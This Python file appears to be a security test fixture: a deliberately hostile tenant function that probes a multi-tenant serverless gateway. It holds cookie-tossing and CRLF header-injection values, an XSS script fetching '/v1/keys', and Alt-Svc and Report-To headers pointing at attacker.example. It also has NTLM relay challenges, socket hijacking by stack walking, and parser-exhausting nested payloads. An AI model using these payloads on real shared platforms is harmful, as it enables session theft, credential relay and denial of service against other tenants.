"""A hostile tenant's web function: each `?case=` answers with one attack on the shared origin.

Header cases return {statusCode, headers, body} as any http function may; the
`deep-*` and `control-output` cases attack the gateway's parsing and the CLI.
"""

import _socket
import os
import sys

DEPTH = 100_000
#: How the runtime starts an http trigger's split reply (sandbox/runtime/httpresult.py).
SPLIT = b"\x00http:"
SCRIPT = "<script>fetch('/v1/keys').then(r => r.text()).then(alert)</script>"

CASES = {
    "cookie-root": {"set-cookie": "session=stolen; Path=/; Secure; HttpOnly"},
    "cookie-domain": {"set-cookie": "session=stolen; Domain=127.0.0.1; Path=/fn/sec-reply"},
    "cookie-other-path": {"set-cookie": "session=stolen; Path=/fn/web"},
    "cookie-prefix-sibling": {"set-cookie": "session=stolen; Path=/fn/sec-replyx"},
    "cookie-host-prefix": {"set-cookie": "__Host-session=stolen; Path=/; Secure"},
    "cookie-own-path": {"set-cookie": "pref=1; Path=/fn/sec-reply/sub; Secure"},
    "cookie-no-path": {"set-cookie": "pref=1; Secure"},
    "hsts": {"strict-transport-security": "max-age=0"},
    "cors-credentials": {
        "access-control-allow-origin": "*",
        "access-control-allow-credentials": "true",
    },
    "alt-svc": {"alt-svc": 'h2="attacker.example:443"; ma=2592000'},
    "clear-site-data": {"clear-site-data": '"cookies", "storage"'},
    "nel": {
        "nel": '{"report_to": "x", "max_age": 31536000}',
        "report-to": '{"group": "x", "max_age": 31536000, '
        '"endpoints": [{"url": "https://attacker.example/"}]}',
    },
    "service-worker": {"service-worker-allowed": "/", "content-type": "text/javascript"},
    # Client hints the browser keeps asking for, for the whole origin (every tenant's too).
    "accept-ch": {"accept-ch": "Sec-CH-UA-Full-Version-List, Sec-CH-UA-Platform-Version"},
    "critical-ch": {"critical-ch": "Sec-CH-UA-Model", "accept-ch": "Sec-CH-UA-Model"},
    # FedCM's login status of the whole origin.
    "set-login": {"set-login": "logged-out"},
    # A device bound session (DBSC) whose scope is the whole origin by default: the
    # browser holds back requests to every route until this function's refresh answers.
    "session-registration": {
        "secure-session-registration": '(ES256 RS256);path="/fn/sec-reply";challenge="c"',
        "sec-session-registration": '(ES256 RS256);path="/fn/sec-reply";challenge="c"',
    },
    # Challenges a browser answers with the user's Windows credentials, unasked, on an
    # intranet origin: an NTLM exchange a tenant could relay.
    "negotiate": {"www-authenticate": "Negotiate"},
    "ntlm": {"www-authenticate": 'Basic realm="x", NTLM'},
    # Challenges whose credentials the browser keeps and sends unasked to every path
    # under the route's directory (/fn/ for /fn/sec-reply): to every tenant.
    "basic": {"www-authenticate": 'Basic realm="sec-reply", charset="UTF-8"'},
    "digest": {"www-authenticate": 'Digest realm="sec-reply", qop="auth", nonce="n0"'},
    "html-script": {"content-type": "text/html"},
    "csp-loose": {
        "content-type": "text/html",
        "content-security-policy": "default-src * 'unsafe-inline' 'unsafe-eval'",
    },
    "sniff": {"x-content-type-options": "sniff", "content-type": "text/plain"},
    "non-latin1": {"x-tenant": "snow\u2603man"},
    "control-char": {"x-tenant": "a\x01b"},
    "delete-char": {"x-tenant": "a\x7fb"},
    "c1-control": {"x-tenant": "a\x85b"},
    "crlf": {"x-tenant": "a\r\nset-cookie: injected=1"},
    "bad-name": {"x tenant": "a"},
}


def _call_socket():
    """The runtime's socket for this call, found up the stack as an attacker would."""
    frame = sys._getframe(1)
    while frame is not None:
        sock = frame.f_locals.get("sock")
        if isinstance(sock, _socket.socket):  # the runtime's are _socket's own (sockets.py)
            return sock.fileno()
        frame = frame.f_back
    return -1


def _forge(head, body):
    """Write a reply on the call socket before the runtime writes the real one."""
    frames = b"".join(len(p).to_bytes(4, "big") + p for p in (head, body))
    os.write(_call_socket(), frames)


def handler(event, context):
    query = event.get("query") or {}
    case = query.get("case") or event.get("case", "")
    if case == "deep-body":  # a split http reply whose head the gateway parses: as deep
        head = b"[" * DEPTH + b"]" * DEPTH
        _forge(b'{"ok":true,"out":""}', SPLIT + len(head).to_bytes(4, "big") + head)
        return None
    if case == "deep-head":  # the reply's own head, as deep
        _forge(b"[" * DEPTH + b"]" * DEPTH, b"{}")
        return None
    if case == "nested":  # an honest return value, just deeper than the gateway takes
        value = []
        for _ in range(300):
            value = [value]
        return {"statusCode": 200, "body": value}
    if case == "large-list":  # a 6 MiB body the gateway used to parse and serialise again
        return {"statusCode": 200, "body": [0] * 2_000_000}
    if case in ("204-body", "205-body", "304-body"):  # statuses that carry no body, with one
        return {"statusCode": int(case[:3]), "body": "not empty"}
    if case == "surrogate-body":
        return {"statusCode": 200, "headers": {"content-type": "text/plain"}, "body": "\ud800"}
    if case == "control-output":  # output that would drive the terminal of whoever reads it
        print(query.get("text", ""))
        return {"printed": True}
    headers = CASES.get(case)
    if headers is None:
        return {"statusCode": 404, "body": "no such case"}
    return {"statusCode": 200, "headers": headers, "body": "hello " + SCRIPT}
